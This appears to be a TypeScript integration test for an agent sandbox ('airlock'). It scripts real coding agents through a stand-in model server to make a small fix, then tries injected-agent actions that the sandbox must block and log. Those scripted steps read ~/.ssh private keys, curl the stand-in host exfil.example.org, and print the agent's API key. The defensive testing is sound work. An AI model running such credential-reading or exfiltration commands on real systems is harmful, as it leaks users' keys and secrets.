import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { AuditStore, type AuditEvent } from '../../src/audit/index.ts';
import { cleanup, makeRepo, tmp } from '../helpers.ts';
import { startModelServer, type ToolStep } from './model-server.ts';
import { runAirlock } from './airlock-run.ts';

// The real agents, unmodified (the npm packages @openai/codex and @anthropic-ai/claude-code),
// run under `airlock run --agent NAME`, scripted by a stand-in model server (no model API is
// reachable here; the stand-in speaks the real wire protocols, see model-server.ts). The
// agent reads a file, edits one, runs the tests, then tries what an injected agent would:
// read ~/.ssh keys, curl a host that is not granted, print its API key variable.
//
// The stand-in listens on the host's own network address; the sandbox reaches it only
// through the egress gateway, granted by the profile (its base URL is redirected by the
// repo policy, exactly as a company points agents at its own model gateway).

const REAL_KEYS = {
  OPENAI_API_KEY: 'sk-test-REAL-openai-7f3a9c2e51d84b06',
  ANTHROPIC_API_KEY: 'sk-ant-test-REAL-anthropic-5e1b7d93c02f4a68',
};
const hostIp = Object.values(networkInterfaces())
  .flat()
  .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

function hostPrivateKeys(): string[] {
  const out: string[] = [];
  for (const dir of [join(process.env.HOME ?? '/root', '.ssh'), '/root/.ssh']) {
    try {
      for (const f of readdirSync(dir))
        if (/^id_/.test(f) && !f.endsWith('.pub')) out.push(readFileSync(join(dir, f), 'utf8'));
    } catch {
      /* none */
    }
  }
  return out;
}

interface Case {
  profile: 'codex' | 'claude';
  keyEnv: keyof typeof REAL_KEYS;
  baseUrl: (url: string) => string;
  script: ToolStep[];
}

const sh = (cmd: string): ToolStep => ({ name: 'exec_command', input: { cmd } });
const bash = (command: string): ToolStep => ({ name: 'Bash', input: { command, description: 'step' } });

const CASES: Case[] = [
  {
    profile: 'codex',
    keyEnv: 'OPENAI_API_KEY',
    baseUrl: (u) => `${u}/v1`,
    script: [
      sh('cat README.md lib.sh'),
      sh("sed -i 's/echo broken/echo fixed/' lib.sh"),
      sh('sh test.sh'),
      sh('cat ~/.ssh/id_* || echo NO-SSH-KEYS'),
      sh('curl -sS -m 10 -o /dev/null -w "HTTP=%{http_code}" https://exfil.example.org/upload; echo " rc=$?"'),
      sh('echo "KEY=$OPENAI_API_KEY"'),
    ],
  },
  {
    profile: 'claude',
    keyEnv: 'ANTHROPIC_API_KEY',
    baseUrl: (u) => u,
    script: [
      { name: 'Read', input: { file_path: '/workspace/lib.sh' } },
      { name: 'Edit', input: { file_path: '/workspace/lib.sh', old_string: 'echo broken', new_string: 'echo fixed' } },
      bash('sh test.sh'),
      bash('cat ~/.ssh/id_* || echo NO-SSH-KEYS'),
      bash('curl -sS -m 10 -o /dev/null -w "HTTP=%{http_code}" https://exfil.example.org/upload; echo " rc=$?"'),
      bash('echo "KEY=$ANTHROPIC_API_KEY"'),
    ],
  },
];

for (const c of CASES) {
  test(
    `${c.profile}: the real agent works under airlock run --agent ${c.profile}; its forbidden attempts fail and are recorded; its key stays outside`,
    { timeout: 300_000 },
    async (t) => {
      if (!hostIp) {
        t.skip('no non-loopback IPv4 address on this machine for the stand-in model server');
        return;
      }
      const model = await startModelServer({
        script: c.script,
        host: hostIp,
        finalText: 'All done: lib.sh fixed, tests pass.',
      });
      const repo = makeRepo({
        'README.md': '# demo\nRun `sh test.sh`.\n',
        'lib.sh': 'value() {\n  echo broken\n}\n',
        'test.sh': '. ./lib.sh\n[ "$(value)" = fixed ] && echo "TESTS PASS" || { echo "TESTS FAIL"; exit 1; }\n',
        // The company-gateway feature: the repo policy points the agent at another base URL.
        // Honeytokens off here: with them on, the scripted `cat ~/.ssh/id_*` reads a decoy and the
        // gateway (rightly) blocks the model call that carries it, ending the script early; that
        // path is covered by the egress broker tests.
        'airlock.yaml': `version: 1\nagents:\n  profiles:\n    ${c.profile}:\n      model:\n        baseUrl: ${c.baseUrl(model.url)}\nsecrets:\n  honeytokens:\n    enabled: false\n`,
      });
      const home = tmp('airlock-agent-home-');
      try {
        const r = await runAirlock(
          ['run', '--repo', repo, '--agent', c.profile, '--', 'fix lib.sh so that the tests pass'],
          { AIRLOCK_HOME: home, ...REAL_KEYS },
          240_000,
        );
        const session = /session (ses-[a-z0-9]+)/.exec(r.stderr)?.[1];
        assert.ok(session, `no session id in stderr:\n${r.stderr}`);
        const results = model.lastToolResults();
        const diag = `\nstatus ${r.status}\nstdout: ${r.stdout.slice(-2000)}\nstderr: ${r.stderr.slice(-3000)}\nmodel requests: ${model.requests.map((q) => `${q.method} ${q.path}`).join(', ')}\ntool results: ${JSON.stringify(results).slice(0, 3000)}`;
        assert.equal(
          model.mainRequests().length >= c.script.length + 1,
          true,
          `the agent reached the stand-in model for every step${diag}`,
        );
        assert.equal(results.length, c.script.length, `every scripted tool call ran${diag}`);
        assert.equal(r.status, 0, diag);

        // 1. It read, edited and ran the tests.
        assert.match(results[0]!, /echo broken/);
        assert.match(results[2]!, /TESTS PASS/);
        // 2. ~/.ssh: no host key is visible (at most the session's decoy).
        for (const k of hostPrivateKeys())
          assert.ok(!results[3]!.includes(k.trim().split('\n')[1] ?? k), 'a host private key reached the agent');
        // 3. curl to a host not granted: refused by the gateway.
        assert.doesNotMatch(results[4]!, /HTTP=2\d\d/, `curl to an ungranted host succeeded: ${results[4]}`);
        // 4. The key variable inside holds only a placeholder.
        const printed = /KEY=(\S*)/.exec(results[5]!)?.[1] ?? '';
        assert.match(printed, /^airlock-(placeholder|ph)-/, `the agent saw: ${results[5]}`);
        for (const q of model.requests)
          assert.ok(
            !JSON.stringify(q.body).includes(REAL_KEYS[c.keyEnv]),
            'the real key never appears in what the agent sent',
          );

        const store = new AuditStore(join(home, 'audit.db'));
        let events: AuditEvent[];
        try {
          events = store.query({ session });
        } finally {
          store.close();
        }
        const all = JSON.stringify(events);
        assert.ok(
          !all.includes(REAL_KEYS.OPENAI_API_KEY) && !all.includes(REAL_KEYS.ANTHROPIC_API_KEY),
          'no real key in the audit log',
        );
        // The profile set-up is recorded (files by digest, mounts, grants, the brokered key by name).
        const setup = events.find((e) => e.type === 'agent.setup')!.data as {
          profile: string;
          credential: { name: string } | null;
          allowHosts: string[];
        };
        assert.equal(setup.profile, c.profile);
        assert.equal(setup.credential?.name, c.keyEnv);
        // Every command the agent ran is in the session's events.
        const execs = events
          .filter((e) => e.type === 'process.exec')
          .map((e) => ((e.data as { argv: string[] }).argv ?? []).join(' '));
        for (const needle of ['sh test.sh', 'cat /home/agent/.ssh/id_', 'curl -sS -m 10', 'lib.sh']) {
          assert.ok(
            execs.some((x) => x.includes(needle)),
            `no process.exec event for "${needle}" in:\n${execs.slice(0, 80).join('\n')}`,
          );
        }
        // The curl attempt was refused at the gateway and recorded with the rule.
        const denied = events.filter((e) => e.type.startsWith('egress.') && e.decision === 'deny');
        assert.ok(
          denied.some((e) => JSON.stringify(e.data).includes('exfil.example.org')),
          `no egress denial for exfil.example.org: ${JSON.stringify(denied).slice(0, 1500)}`,
        );
        // The edit is in the captured result (and became a proposal).
        const res = events.find((e) => e.type === 'session.result')!.data as { resultRepo: string; headCommit: string };
        const lib = spawnSync('git', ['--git-dir', res.resultRepo, 'show', `${res.headCommit}:lib.sh`], {
          encoding: 'utf8',
        });
        assert.match(lib.stdout, /echo fixed/, 'the edit is in the captured result');
        assert.ok(
          events.some((e) => e.type === 'session.proposed' || e.type === 'review.proposed'),
          'the change became a proposal',
        );

        // The key at the model server: real one only through the broker.
        const auth = model
          .mainRequests()
          .map((q) => String(c.keyEnv === 'OPENAI_API_KEY' ? q.headers.authorization : q.headers['x-api-key']));
        assert.ok(
          auth.every((a) => a.includes(REAL_KEYS[c.keyEnv])),
          `the broker put the real key on every model request: ${auth.join(', ')}`,
        );
        assert.ok(
          auth.every((a) => !a.includes(printed)),
          'the placeholder never reached the model',
        );
      } finally {
        await model.close();
        cleanup(repo, home);
      }
    },
  );
}
